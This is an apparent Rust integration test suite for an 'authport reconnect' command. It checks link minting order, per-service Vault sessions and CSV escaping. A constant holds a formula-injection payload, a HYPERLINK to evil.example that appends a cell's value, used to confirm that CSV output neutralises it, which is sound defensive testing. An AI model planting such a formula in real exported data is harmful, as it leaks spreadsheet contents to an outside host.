//! Issue 17 items 5 and 9, end to end against the sandbox's Apideck Vault: a worklist cell a
//! spreadsheet would run as a formula is inert in the CSV beside a live link; a link is on disk
//! before its mint is noted (an output that cannot be written leaves the mint un-noted, so the
//! next run mints again); and an owner's Vault session is noted for the set of services it
//! covers, so a run that needs more mints a new one.

use crate::common;

use common::*;
use serde_json::json;

const FORMULA: &str = r#"=HYPERLINK("http://evil.example/?x="&I2,"Click")"#;

/// An API key for an OAuth connector: never imported, and only the end user can fix it
/// (connect again), so it is an `end_user` row of the worklist.
fn unimportable(id: &str, service: &str, unified_api: &str) -> String {
    json!({"id": id, "owner": {"id": "u4", "name": FORMULA, "email": "u4@example.com"},
           "service": service,
           "auth": {"type": "api_key", "api_key": canary(&format!("{id}-key"))},
           "targets": {"apideck": {"unified_api": unified_api, "service_id": service}}})
    .to_string()
}

/// The sandbox, a state where both records failed to map (both on the worklist), the two
/// inputs (`one`: the CRM record; `both`) and a scratch directory for the runs.
struct Setup {
    _sandbox: Sandbox,
    env: Vec<(String, String)>,
    dir: tempfile::TempDir,
    _inputs: tempfile::TempDir,
    one: std::path::PathBuf,
    both: std::path::PathBuf,
}

async fn setup() -> Setup {
    let sandbox = sandbox().await;
    let env = sandbox.env();
    let dir = scratch();
    let inputs = scratch();
    let crm = unimportable("u4/hubspot", "hubspot", "crm");
    let accounting = unimportable("u4/xero", "xero", "accounting");
    let one = write_lines(inputs.path(), "one.jsonl", std::slice::from_ref(&crm));
    let both = write_lines(inputs.path(), "both.jsonl", &[crm, accounting]);
    let run = import_with_state("apideck", &env, dir.path(), &both, &[]).await;
    let mapping = run
        .report
        .iter()
        .filter(|l| l["error"]["kind"] == "mapping")
        .count();
    assert_eq!(mapping, 2, "{:?}\n{}", run.report, run.out.stderr);
    Setup {
        _sandbox: sandbox,
        env,
        dir,
        _inputs: inputs,
        one,
        both,
    }
}

impl Setup {
    /// `authport reconnect --provider apideck --state state.db --links --input INPUT EXTRA…`.
    async fn reconnect(&self, input: &std::path::Path, extra: &[&str]) -> Output {
        let mut args = vec![
            "reconnect",
            "--provider",
            "apideck",
            "--state",
            "state.db",
            "--links",
            "--input",
            input.to_str().unwrap(),
        ];
        args.extend_from_slice(extra);
        let out = authport(self.dir.path(), &args, &self.env).await;
        assert_no_canary("reconnect output", &out.printed());
        out
    }
}

#[cfg(target_os = "linux")]
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_link_is_on_disk_before_its_mint_is_noted() {
    let setup = setup().await;
    // A full disk: the session is minted, the row cannot be written, the mint is not noted.
    let full = setup
        .reconnect(&setup.one, &["--output", "/dev/full"])
        .await;
    assert_ne!(full.code, 0, "{}", full.stderr);
    assert!(!full.stderr.contains("/session/"), "{}", full.stderr);
    // So the next run mints again, and its link is in the file.
    let out = setup.reconnect(&setup.one, &["--output", "w.jsonl"]).await;
    assert_eq!(out.code, 0, "{}", out.stderr);
    assert!(
        out.stderr.contains("links minted 1, minted earlier 0"),
        "{}",
        out.stderr
    );
    let rows = read_lines(&setup.dir.path().join("w.jsonl"));
    assert!(rows[0]["link"].as_str().unwrap().contains("/session/"));
    assert!(rows[0]["link_minted_at"].is_string(), "{rows:?}");
    assert_no_canary_in_dir(setup.dir.path());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_formula_in_an_owner_name_is_inert_in_the_csv_beside_a_link() {
    let setup = setup().await;
    let out = setup
        .reconnect(&setup.one, &["--output", "w.csv", "--format", "csv"])
        .await;
    assert_eq!(out.code, 0, "{}", out.stderr);
    let csv = std::fs::read_to_string(setup.dir.path().join("w.csv")).unwrap();
    let mut lines = csv.lines();
    assert!(
        lines.next().unwrap().contains(",link_note,link_minted_at,"),
        "{csv}"
    );
    let row = lines.next().unwrap();
    assert!(row.contains("/session/"), "{row}");
    assert!(
        row.contains(r#","'=HYPERLINK(""http://evil.example/?x=""&I2,""Click"")","#),
        "{row}"
    );
    assert!(!row.contains(r#","=HYPERLINK"#), "{row}");
    // JSON Lines carry the name as it is: only the CSV is opened by spreadsheets.
    let out = setup
        .reconnect(&setup.one, &["--output", "w.jsonl", "--force-links"])
        .await;
    assert_eq!(out.code, 0, "{}", out.stderr);
    let rows = read_lines(&setup.dir.path().join("w.jsonl"));
    assert_eq!(rows[0]["owner_name"], FORMULA);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_owners_vault_session_is_noted_for_the_services_it_covers() {
    let setup = setup().await;
    let out = setup.reconnect(&setup.one, &["--output", "w.jsonl"]).await;
    assert_eq!(out.code, 0, "{}", out.stderr);
    assert!(out.stderr.contains("links minted 1"), "{}", out.stderr);
    // The same owner now needs a link for another unified API too: a new session for both.
    let out = setup.reconnect(&setup.both, &["--output", "w.jsonl"]).await;
    assert_eq!(out.code, 0, "{}", out.stderr);
    assert!(
        out.stderr.contains("links minted 1, minted earlier 0"),
        "{}",
        out.stderr
    );
    let rows = read_lines(&setup.dir.path().join("w.jsonl"));
    assert_eq!(rows.len(), 2, "{rows:?}");
    assert!(
        rows.iter()
            .all(|r| r["link"].is_string() && r["link"] == rows[0]["link"]),
        "{rows:?}"
    );
    // A re-run for the same services mints nothing.
    let again = setup.reconnect(&setup.both, &["--output", "w.jsonl"]).await;
    assert_eq!(again.code, 0, "{}", again.stderr);
    assert!(
        again.stderr.contains("links minted 0, minted earlier 1"),
        "{}",
        again.stderr
    );
}
